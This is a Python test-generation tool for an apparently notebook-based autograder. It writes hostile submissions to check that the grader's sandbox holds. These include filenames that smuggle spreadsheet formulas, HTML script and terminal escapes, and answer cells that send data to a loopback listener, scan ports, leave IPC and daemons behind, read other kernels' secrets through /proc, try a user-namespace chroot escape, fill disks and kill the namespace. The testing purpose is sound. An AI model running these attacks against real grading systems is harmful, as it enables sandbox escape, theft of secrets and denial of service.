"""Write a hostile class of attacks on the grader, with what each must give.

``python -m tools.make_hostile FOLDER [--port N]`` writes the files into
FOLDER and prints one line per kind: its submission path and the status
the grader must report. Every file is derived from the built notebooks
(notebooks/solutions/en) or written from scratch; nothing is committed.
The kinds come in the groups of issue 13:

- inputs that must never stop or stall the class (``write_hostile``):
  they never reach a kernel; each must end as its own row of the
  gradebook, quickly, with the other rows intact;
- the jail (``write_jailbreaks``): lesson 01 notebooks whose answers are
  right but whose answer cell also attacks the machine: the network (a
  listener on the host's loopback at port N), SysV and POSIX IPC left
  behind, processes that outlive the run, privilege calls and escapes to
  the host's files, the disk (bytes and files), signals to the whole
  namespace. The rows say what the grader must give; what must not
  happen (data reaching the listener, anything left behind) the test
  checks on the machine.
"""

import argparse
import json
import os
import socket
import sys
from pathlib import Path

from autograde import catalog
from tools.make_submissions import ONCE, CaseBuilder, _indent, _insert_at_function_start, _serialize

ROOT = Path(__file__).resolve().parent.parent
LESSON = ROOT / "notebooks" / "solutions" / "en" / "01-gradient-checking-1d.ipynb"


def _notebook():
    return json.loads(LESSON.read_text(encoding="utf-8"))


def _deep(depth):
    notebook = _notebook()
    return json.dumps(notebook)[:-1] + ', "x": ' + "[" * depth + "]" * depth + "}"


def _kinds(folder, holder):
    """Yield (relative path as bytes, status, writer(path)) for every kind."""
    def text(content):
        return lambda path: path.write_bytes(content.encode("utf-8") if isinstance(
            content, str) else content)

    def sparse(path):
        with open(path, "wb") as handle:
            handle.truncate(catalog.MAX_SUBMISSION_BYTES + 1)

    def many_cells(path):
        notebook = _notebook()
        notebook["cells"] = notebook["cells"] * (catalog.MAX_CELLS // len(notebook["cells"]) + 1)
        path.write_text(json.dumps(notebook), encoding="utf-8")

    def long_cell(path):
        notebook = _notebook()
        notebook["cells"][0]["source"] = "#" * (catalog.MAX_CELL_SOURCE_CHARS + 1)
        path.write_text(json.dumps(notebook), encoding="utf-8")

    def bound_socket(path):
        holder.append(socket.socket(socket.AF_UNIX))
        holder[-1].bind(os.fsdecode(path))

    stray = b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": "x"}'
    yield b"fifo.ipynb", "not-a-regular-file", lambda path: os.mkfifo(path)
    yield b"socket.ipynb", "not-a-regular-file", bound_socket
    yield b"link-out.ipynb", "symlink", lambda path: path.symlink_to(LESSON)
    yield b"link-dir-out", "symlink", lambda path: path.symlink_to(
        LESSON.parent, target_is_directory=True)
    yield b"link-dangling.ipynb", "unreadable", lambda path: path.symlink_to(folder / "nowhere")
    yield b"sparse-huge.ipynb", "too-large", sparse
    yield b"deep-65.ipynb", "too-large", text(_deep(catalog.MAX_JSON_DEPTH + 1))
    yield b"deep-100000.ipynb", "too-large", text(_deep(100_000))
    yield b"many-cells.ipynb", "too-large", many_cells
    yield b"long-cell.ipynb", "too-large", long_cell
    yield b"empty.ipynb", "empty", text(b"")
    yield b"binary.ipynb", "not-a-notebook", text(b"\xff\xfe\x00\x01")
    yield b"old.ipynb", "old-format", text(
        '{"nbformat": 3, "nbformat_minor": 0, "worksheets": [], "metadata": {}}')
    yield b"cells-not-a-list.ipynb", "not-a-notebook", text(stray)
    yield b"latin1-\xe7\xf6z.ipynb", "not-a-notebook", text(stray)
    yield b"new\nline\r\x1b[31mred.ipynb", "not-a-notebook", text(stray)
    yield b"=HYPERLINK(1).ipynb", "not-a-notebook", text(stray)
    yield b"+cmd.ipynb", "not-a-notebook", text(stray)
    yield b"@SUM(A1).ipynb", "not-a-notebook", text(stray)
    yield b"<script>alert(1)<_script>.ipynb", "not-a-notebook", text(stray)
    yield b"[click](javascript:x) *b*.ipynb", "not-a-notebook", text(stray)
    yield ("ğ" * 120 + ".ipynb").encode("utf-8"), "not-a-notebook", text(stray)
    yield "\u202egpj.ipynb".encode("utf-8"), "not-a-notebook", text(stray)
    yield b"alice/lesson.ipynb", "not-a-notebook", text(stray)
    yield b"bob/lesson.ipynb", "empty", text(b"")


def write_hostile(folder):
    """Write the kinds into ``folder``; return ({relative path bytes: status}, sockets to close)."""
    folder = Path(folder)
    holder = []
    expected = {}
    for relative, status, writer in _kinds(folder, holder):
        path = Path(os.fsdecode(os.path.join(os.fsencode(folder), relative)))
        path.parent.mkdir(parents=True, exist_ok=True)
        writer(path)
        expected[relative] = status
    return expected, holder


# The names the jail kinds leave on the machine if the jail leaks: the test
# looks for them in the host's /dev/shm, /tmp and process list
LEFTOVER = "autograde-leftover"
DAEMON_SECONDS = "4321.5"
JAIL_LESSON = ("01", "en")
TARGET = "forward_propagation"
ITEMS = ("forward-check", "backward-check", "gradient-check-check")

# Module-level code of the target's answer cell; errors are swallowed, so
# the answer stays right and every row passes
_NET = """\
import socket as _socket
for _family, _kind, _host in ((_socket.AF_INET, _socket.SOCK_STREAM, "127.0.0.1"),
                              (_socket.AF_INET6, _socket.SOCK_STREAM, "::1")):
    try:
        with _socket.socket(_family, _kind) as _s:
            _s.settimeout(2)
            _s.connect((_host, PORT))
            _s.sendall(b"LEAK " + _host.encode())
    except OSError:
        pass
"""
_UDP = """\
import socket as _socket
for _ in range(20):
    try:
        with _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM) as _s:
            _s.sendto(b"LEAK udp", ("127.0.0.1", PORT))
    except OSError:
        pass
"""
_SCAN = """\
import socket as _socket
for _port in [*range(1, 1025), PORT, 8888, 8000, 5432, 6379]:
    try:
        with _socket.create_connection(("127.0.0.1", _port), timeout=0.2) as _s:
            _s.sendall(b"LEAK scan")
    except OSError:
        pass
"""
_SYSV_SHM = """\
import ctypes as _ctypes
_libc = _ctypes.CDLL(None)
for _key in (0, 0x4C45414B):
    _id = _libc.shmget(_key, 1 << 20, 0o1666)
    if _id >= 0:
        _address = _libc.shmat(_id, None, 0)
"""
_SYSV_MSG_SEM = """\
import ctypes as _ctypes
_libc = _ctypes.CDLL(None)
for _key in (0, 0x4C45414B):
    _libc.msgget(_key, 0o1666)
    _libc.semget(_key, 4, 0o1666)
"""
_POSIX_SHM = """\
for _folder in ("/dev/shm", "/tmp"):
    try:
        with open(f"{_folder}/LEFTOVER-posix", "wb") as _f:
            _f.write(b"x" * (1 << 20))
    except OSError:
        pass
"""
_UNIX_SOCKETS = """\
import socket as _socket
_held = []
for _address in ("LEFTOVER.sock", "/tmp/LEFTOVER.sock", "\\0LEFTOVER"):
    try:
        _held.append(_socket.socket(_socket.AF_UNIX))
        _held[-1].bind(_address)
        _held[-1].listen(1)
    except OSError:
        pass
"""
_DAEMON = """\
import subprocess as _subprocess
try:
    _subprocess.Popen(["sleep", "SECONDS"], start_new_session=True,
                      stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL,
                      stderr=_subprocess.DEVNULL)
    _subprocess.Popen(["sh", "-c", "nohup sleep SECONDS >/dev/null 2>&1 &"])
except OSError:
    pass
"""
_PRIVILEGES = """\
import ctypes as _ctypes
import os as _os
_libc = _ctypes.CDLL(None, use_errno=True)
for _attempt in (lambda: _os.setuid(0), lambda: _os.setgid(0), lambda: _os.chroot("/tmp"),
                 lambda: _os.mknod("/tmp/LEFTOVER-dev", 0o20666, _os.makedev(1, 3))):
    try:
        _attempt()
    except OSError:
        pass
_libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None)
_libc.sethostname(b"LEFTOVER", 8)
"""
_FILE_DESCRIPTORS = """\
_held = []
try:
    while True:
        _held.append(open("/dev/null"))
except OSError:
    pass
for _f in _held:
    _f.close()
"""

# Reveal kinds: the answer is right only if the attack found something it
# must not see; otherwise the target raises LookupError (the checks catch
# it: rows failed)
_REVEAL = {
    # (the jail shows the Python installation, e.g. a .venv inside the
    # course checkout, read-only: the checkout's other files must not show)
    "reads-through-proc": """\
import glob as _glob
_stolen = []
for _pattern in ("/proc/*/root/*/*/notebooks/solutions", "/proc/*/root/*/notebooks",
                 "/proc/*/root/tmp/*/runner", "/proc/*/cwd/../runner",
                 "/proc/*/root/*/*/autograde/grade.py", "/proc/*/root/home/*"):
    _stolen += _glob.glob(_pattern)
""",
    "reads-host-paths": """\
import glob as _glob
_stolen = []
for _pattern in ("/*/*/notebooks/solutions", "/*/notebooks", "/*/*/autograde/grade.py",
                 "/*/*/README.md", "/home/*", "../runner/*", "../../*/runner"):
    _stolen += _glob.glob(_pattern)
""",
    "reads-neighbour-kernels": """\
import glob as _glob
import os as _os
# other workspaces' connection files and sockets (their HMAC keys)
_stolen = [path for path in _glob.glob("/tmp/**", recursive=True)
           if not path.startswith(_os.getcwd()) and not _os.path.isdir(path)]
""",
    "userns-chroot-escape": """\
import ctypes as _ctypes
import glob as _glob
import os as _os
_libc = _ctypes.CDLL(None, use_errno=True)
_stolen = []
# a new user namespace (allowed without privileges where the jail is
# single-threaded) gives CAP_SYS_CHROOT back: the classic chroot escape
if _libc.unshare(0x10000000 | 0x00020000) == 0:
    try:
        _os.makedirs("_escape", exist_ok=True)
        _os.chroot("_escape")
        for _ in range(64):
            _os.chdir("..")
        _os.chroot(".")
        _stolen = _glob.glob("/*/*/notebooks") + _glob.glob("/*/*/README.md")
    except OSError:
        pass
""",
}
_REVEAL_END = ("if not _stolen:\n"
               "    def {target}(*args, **kwargs):\n"
               "        raise LookupError('the jail held')\n")

# In the target's body, on every call: fills a folder and lets the OSError
# out (the checks catch it: rows failed)
_DISK = {
    "disk-one-huge-file": ("open('LEFTOVER-huge', 'wb').write(b'x' * 10**9)"),
    "disk-gigabyte-in-chunks": (
        "import uuid\n_tag = uuid.uuid4().hex\n"
        "for _i in range(20):\n"
        "    with open(f'LEFTOVER-{_tag}-{_i}', 'wb') as _f:\n"
        "        _f.write(b'x' * 50_000_000)"),
    "disk-many-files": (
        "import uuid\n_tag = uuid.uuid4().hex\n"
        "for _i in range(20_000):\n"
        "    open(f'LEFTOVER-{_tag}-{_i}', 'w').close()"),
    "disk-fill-tmp": (
        "import uuid\n_tag = uuid.uuid4().hex\n"
        "for _i in range(20):\n"
        "    with open(f'/tmp/LEFTOVER-{_tag}-{_i}', 'wb') as _f:\n"
        "        _f.write(b'x' * 50_000_000)"),
    "disk-fill-shm": (
        "import uuid\n_tag = uuid.uuid4().hex\n"
        "for _i in range(20_000):\n"
        "    open(f'/dev/shm/LEFTOVER-{_tag}-{_i}', 'w').close()"),
}
# In the target's body, once per workspace (ONCE): the kernel dies
# (kill(-1) spares the caller and init ignores SIGKILL from inside its
# namespace; the process group holds the kernel)
_ONCE = {"kill-the-namespace": (
    "import os\nimport signal\n"
    "for _target in (lambda: os.kill(-1, signal.SIGKILL), lambda: os.kill(1, signal.SIGKILL),\n"
    "                lambda: os.killpg(0, signal.SIGKILL)):\n"
    "    try:\n"
    "        _target()\n"
    "    except OSError:\n"
    "        pass")}


def _expected(**statuses):
    return {item: statuses.get(item.replace("-", "_"), "passed") for item in ITEMS}


def jail_kinds(port):
    """Return {kind: (target answer source, {grade_id: status})} for lesson 01's target."""
    builder = CaseBuilder(catalog.Catalog(ROOT), *JAIL_LESSON)
    answer = builder.sources[TARGET]

    def fill(code):
        return code.replace("PORT", str(port)).replace("LEFTOVER", LEFTOVER).replace(
            "SECONDS", DAEMON_SECONDS)

    passed = _expected()
    kinds = {name: (fill(code) + answer, passed) for name, code in (
        ("net-loopback-tcp", _NET), ("net-loopback-udp", _UDP), ("net-scan", _SCAN),
        ("ipc-sysv-shm-left", _SYSV_SHM), ("ipc-sysv-msg-sem-left", _SYSV_MSG_SEM),
        ("ipc-posix-shm-left", _POSIX_SHM), ("unix-sockets-left", _UNIX_SOCKETS),
        ("daemon-outlives-run", _DAEMON), ("privilege-calls", _PRIVILEGES),
        ("file-descriptors-exhausted", _FILE_DESCRIPTORS))}
    lost = _expected(forward_check="failed", gradient_check_check="failed")
    for name, code in _REVEAL.items():
        kinds[name] = (answer + "\n" + fill(code) + _REVEAL_END.format(target=TARGET), lost)
    for name, code in _DISK.items():
        kinds[name] = (_insert_at_function_start(answer, TARGET, fill(code)), lost)
    died = _expected(forward_check="kernel-died")
    for name, code in _ONCE.items():
        kinds[name] = (_insert_at_function_start(answer, TARGET, ONCE + _indent(code)), died)
    return builder, kinds


def write_jailbreaks(folder, port):
    """Write the jail kinds into ``folder`` (``<kind>.ipynb``); return {file name: statuses}.

    ``port`` is where the test listens on the host's loopback (TCP, IPv4
    and IPv6, and UDP); statuses are {grade_id: status} for every row.
    """
    builder, kinds = jail_kinds(port)
    expected = {}
    for name, (source, statuses) in kinds.items():
        notebook = builder.notebook({TARGET: source})
        Path(folder, f"{name}.ipynb").write_bytes(_serialize(notebook))
        expected[f"{name}.ipynb"] = statuses
    return expected


def main(argv=None):
    parser = argparse.ArgumentParser(prog="python -m tools.make_hostile", description=__doc__)
    parser.add_argument("folder", help="where to write the class")
    parser.add_argument("--port", type=int, default=None,
                        help="also write the jail kinds, attacking this loopback port")
    options = parser.parse_args(argv)
    expected, sockets = write_hostile(options.folder)
    for relative, status in expected.items():
        print(f"{os.fsdecode(relative)!r}\t{status}")
    for held in sockets:
        held.close()
    if options.port is not None:
        for name, statuses in write_jailbreaks(options.folder, options.port).items():
            print(f"{name!r}\t{json.dumps(statuses)}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
